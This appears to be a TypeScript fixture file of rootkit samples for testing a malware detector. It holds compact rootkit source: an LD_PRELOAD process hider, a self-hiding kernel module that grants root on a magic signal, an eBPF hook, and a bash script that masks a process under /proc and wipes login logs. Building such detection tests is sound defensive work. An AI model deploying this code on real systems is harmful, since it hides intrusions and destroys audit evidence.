import { program } from './program.ts';
import { ofFamily } from './sample.ts';

export const samples = ofFamily('rootkit', [
  {
    id: 'rootkit-preload-hider',
    level: 'easy',
    technique: 'libprocesshider: readdir without one process (TeamTNT, 2021; T1014).',
    files: {
      'usr/local/src/processhider.c': `#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <string.h>
static const char* process_to_filter = "xmrig";
static struct dirent* (*original_readdir)(DIR*) = NULL;
struct dirent* readdir(DIR *dirp) {
  if (!original_readdir) original_readdir = dlsym(RTLD_NEXT, "readdir");
  struct dirent* d;
  while ((d = original_readdir(dirp)) && !strcmp(d->d_name, process_to_filter)) ;
  return d;
}
`,
    },
    expect: 'malicious',
    where: 'usr/local/src/processhider.c',
  },
  {
    id: 'rootkit-diamorphine',
    level: 'easy',
    technique: 'A kernel module that takes signals as commands (Diamorphine; T1014).',
    files: {
      'lib/modules/extra/gpu_ctl.ko': program(
        [
          'vermagic=5.15.0',
          'diamorphine_init',
          'hacked_getdents64',
          'hacked_kill',
          'kallsyms_lookup_name',
          'give_root',
        ],
        { type: 1 },
      ),
    },
    expect: 'malicious',
    where: 'lib/modules/extra/gpu_ctl.ko',
  },
  {
    id: 'rootkit-module-source',
    level: 'ordinary',
    technique: 'A module that takes itself off the list and hooks by ftrace (Reptile-like; T1014).',
    files: {
      'usr/src/nvhelper-1.0/main.c': `#include <linux/module.h>
#include <linux/ftrace.h>
#include <linux/cred.h>
static asmlinkage long (*orig_kill)(const struct pt_regs *);
static asmlinkage long hook_kill(const struct pt_regs *r) {
  if (r->si == 64) { struct cred *c = prepare_creds(); c->uid.val = c->gid.val = c->euid.val = 0; commit_creds(c); return 0; }
  return orig_kill(r);
}
static int __init nv_init(void) { list_del(&THIS_MODULE->list); kobject_del(&THIS_MODULE->mkobj.kobj); return 0; }
module_init(nv_init);
MODULE_LICENSE("GPL");
`,
    },
    expect: 'malicious',
    where: 'usr/src/nvhelper-1.0/main.c',
  },
  {
    id: 'rootkit-ebpf',
    level: 'hard',
    technique:
      'eBPF that hides its process and files, and rewrites what others read (TripleCross, ebpfkit; T1014).',
    files: {
      'opt/mon/hide.bpf.c': `#include "vmlinux.h"
#include <bpf/bpf_helpers.h>
SEC("tp/syscalls/sys_exit_getdents64")
int handle_exit(struct trace_event_raw_sys_exit *ctx) {
  struct linux_dirent64 *prev; short len = 0;
  bpf_probe_write_user(&prev->d_reclen, &len, sizeof(len));
  return 0;
}
SEC("tp/syscalls/sys_enter_openat")
int fake_sudoers(void *ctx) { char p[] = "root ALL=(ALL:ALL) NOPASSWD:ALL"; bpf_override_return(ctx, 0); return 0; }
char LICENSE[] SEC("license") = "GPL";
`,
    },
    expect: 'malicious',
    where: 'opt/mon/hide.bpf.c',
  },
  {
    id: 'rootkit-bind-mount-proc',
    level: 'ordinary',
    technique: 'A process hidden by an empty folder mounted over its place in /proc (8220, Unit 42; T1564).',
    files: {
      'usr/bin/svc': `#!/bin/bash
/usr/lib/.svc/d & P=$!
mkdir -p /tmp/.e && mount --bind /tmp/.e /proc/$P
unset HISTFILE; export HISTSIZE=0; rm -f /var/log/wtmp /var/log/btmp; echo > /var/log/auth.log
`,
    },
    expect: 'malicious',
    where: 'usr/bin/svc',
  },
  {
    id: 'rootkit-preload-binary',
    level: 'hard',
    technique:
      'A library with the exports of a preload rootkit and a magic group (Symbiote, BlackBerry 2022; T1014).',
    files: {
      'usr/lib/x86_64-linux-gnu/libkeyutil.so.1': program(
        [
          'dlsym',
          'readdir64',
          'fopen64',
          '__xstat64',
          'accept',
          '/proc/net/tcp',
          'HTTP_SETTHIS',
          'ld.so.preload',
          'pam_authenticate',
          'libselinux.so',
        ],
        { type: 3 },
      ),
    },
    expect: 'malicious',
    where: 'usr/lib/x86_64-linux-gnu/libkeyutil.so.1',
  },
]);
